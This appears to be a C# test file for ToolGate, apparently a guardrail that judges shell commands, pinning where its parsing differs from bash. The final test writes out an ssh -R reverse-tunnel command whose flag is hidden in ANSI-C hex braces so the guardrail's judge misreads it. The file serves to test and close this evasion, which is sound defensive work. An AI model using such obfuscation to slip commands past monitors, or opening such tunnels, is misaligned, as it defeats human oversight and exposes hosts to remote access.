using ToolGate.Core.Actions;
using ToolGate.Core.Shell;
using ToolGate.Core.Tests.Support;

namespace ToolGate.Core.Tests.Shell.Differential;

/// <summary>
/// Differences from bash that the differential test found, pinned with bash's answer (GNU bash 5.2,
/// <c>set -- …; printf '%s\0' "$@"</c>). <see cref="CommandLineGenerator"/> leaves these forms out so the
/// differential test stays green; each test here fails until the difference is fixed.
/// </summary>
public class KnownDivergenceTests
{
    [Fact]
    public void Plan_AnsiCControlBackslash_IsOneCharacterAsInBash()
    {
        Assert.Equal(["a", "\x1c", "\x1c\x1b"], Argv("a $'\\c\\\\' $'\\c\\\\\\E'"));
    }

    [Fact]
    public void Plan_ZeroPaddedBraceRange_KeepsTheWidthAsInBash()
    {
        Assert.Equal(["a", "01", "02", "03", "-01", "000", "001"], Argv("a {01..03} {-01..1}"));
    }

    [Fact]
    public void Plan_EmptyBraceAlternative_IsRemovedAsInBash()
    {
        Assert.Equal(["a", "x", "y", "b", "z", "zb"], Argv("a {x,,y} {,b} z{,b}"));
    }

    [Fact]
    public void Plan_AnsiCHexInBraces_IsDecodedAsInBash()
    {
        Assert.Equal(["a", "A", ":b", "a"], Argv("a $'\\x{41}' $'\\x{263a}b' $'a\\x{[b'"));
    }

    /// <summary>
    /// What the divergence above lets through: the judge reads the script of <c>bash -c</c> with ToolGate's
    /// decoding and sees an option <c>-\x{52}</c>; the real bash the tool starts runs <c>ssh -R …</c>, a reverse tunnel.
    /// </summary>
    [Fact]
    public void Decide_ShellScriptHidingATunnelFlagInHexBraces_IsAGuardrailHit()
    {
        var policy = ShellPolicy.Compile([TestGrants.Shell("g", ["bash *", "ssh *"])]);

        var verdict = ShellEvaluator.Decide(
            new ShellAction("bash -c \"ssh $'-\\x{52}' 9000:localhost:22 a@198.51.100.7\"", "/srv/project"), policy, TestKnowledge.Shell, TestGrants.Now, TestKnowledge.ShellNetwork);

        Assert.Equal("guardrail:shell.tunnel", verdict.Rule);
    }

    private static string[] Argv(string command)
    {
        var plan = ShellPlan.Build(command);
        Assert.NotNull(plan);
        return [.. Assert.Single(Assert.Single(plan.Steps).Commands).Argv];
    }
}
